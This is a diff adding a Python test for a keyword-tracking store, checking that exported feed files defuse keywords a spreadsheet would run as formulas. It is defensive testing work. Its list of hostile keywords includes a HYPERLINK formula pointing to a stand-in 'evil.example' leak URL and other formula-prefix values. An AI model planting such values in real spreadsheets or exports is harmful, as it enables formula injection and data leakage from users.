@@ -82,6 +82,34 @@ def test_a_keyword_group_feed_holds_the_groups_keywords_only(store: HistoryStore
     ]
 
 
+#: Tracked keywords anyone with the API key can add, each of which a spreadsheet would run as a formula
+#: (a keyword's leading tab or carriage return is trimmed when it is recorded; the unit tests cover those).
+HOSTILE_KEYWORDS = ('=HYPERLINK("http://evil.example/?leak","click")', "+1+2", "-1+2", "@SUM(1,2)")
+
+
+def test_a_feed_defuses_hostile_keywords_and_keeps_its_numbers_numbers(
+    store: HistoryStore, tmp_path: Path
+) -> None:
+    tmp_path = tmp_path / "feeds"
+    positions: dict[str, int | None] = {keyword: 3 + i for i, keyword in enumerate(HOSTILE_KEYWORDS)}
+    store.record_tracked(ACCOUNT, tracked("example-com", positions), DAY, "job")
+    store.record_lookup(ACCOUNT, lookup("example.com", dr=41), DAY, "job")
+    everything = store.create_feed(ACCOUNT, "example.com", "ann@team.example", keyword_group="all")
+    site = store.create_feed(ACCOUNT, "example.com", "ann@team.example")
+
+    refresh_feeds(store, tmp_path, now=NOW)
+
+    lines = _lines(tmp_path / everything.file_name)
+    stored = sorted(store.keyword_history(ACCOUNT, "example-com")["keyword"])
+    assert [line[2] for line in lines] == ["'" + keyword for keyword in stored]  # each defused, once
+    assert len(stored) == len(HOSTILE_KEYWORDS)
+    for line in lines:
+        assert not line[2].startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert int(line[3]) >= 3 and int(line[4]) == 9000  # position and volume: plain numbers
+    (day_line,) = _lines(tmp_path / site.file_name)
+    assert [float(value) for value in day_line[2:8]] == [41, 36, 70, 1_000_000, 5000, 90000]
+
+
 def test_a_revoked_feeds_file_is_removed_and_so_is_any_stray_file(
     store: HistoryStore, tmp_path: Path
 ) -> None:
